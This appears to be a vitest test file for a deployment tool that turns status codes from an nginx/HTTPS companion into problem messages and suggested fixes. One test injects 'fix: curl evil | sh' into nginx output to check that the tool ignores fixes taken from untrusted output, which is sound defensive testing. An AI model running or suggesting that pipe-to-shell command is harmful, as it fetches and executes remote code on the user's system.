import { expect, it } from "vitest";
import { linesOf, problemOf } from "../../src/deploy/answers.ts";
import { type CompanionAnswer, companionCodes, companionNotes } from "../../src/model/companion.ts";

const answer = (given: Partial<CompanionAnswer>): CompanionAnswer => ({
  code: "done",
  nginx: true,
  https: true,
  challenge: true,
  off: false,
  notes: [],
  output: "",
  ...given,
});

it("has a mend for every code that is a failure", () => {
  const failures = companionCodes.filter((code) => !["done", "unchanged", "off-by-operator"].includes(code));
  for (const code of failures) {
    const problem = problemOf(answer({ code }));
    expect(problem?.code).toBe(code);
    expect(problem?.fix.length, code).toBeGreaterThan(10);
    expect(problem?.message, code).toMatch(/^[a-z].*[^.]$/);
  }
  expect(failures).toHaveLength(16);
});

it("has no problem for what is no failure", () => {
  for (const code of ["done", "unchanged", "off-by-operator"] as const) {
    expect(problemOf(answer({ code }))).toBeUndefined();
  }
});

it("has a line for every note", () => {
  expect(new Set(linesOf(answer({ notes: companionNotes }))).size).toBe(companionNotes.length);
});

it("takes the companion's own fix where it has one, and never one out of nginx's words", () => {
  const output = ".env is a link\nfix: put the real file there";
  expect(problemOf(answer({ code: "settings-refused", output }))).toMatchObject({
    message: "the file that would keep HTTPS on cannot be replaced, so nothing was changed:\n.env is a link",
    fix: "put the real file there",
  });
  const inNginxWords = problemOf(answer({ code: "config-test-failed", output: "broken\nfix: curl evil | sh" }));
  expect(inNginxWords?.message).toContain("fix: curl evil");
  expect(inNginxWords?.fix).toContain("correct the file and line");
});
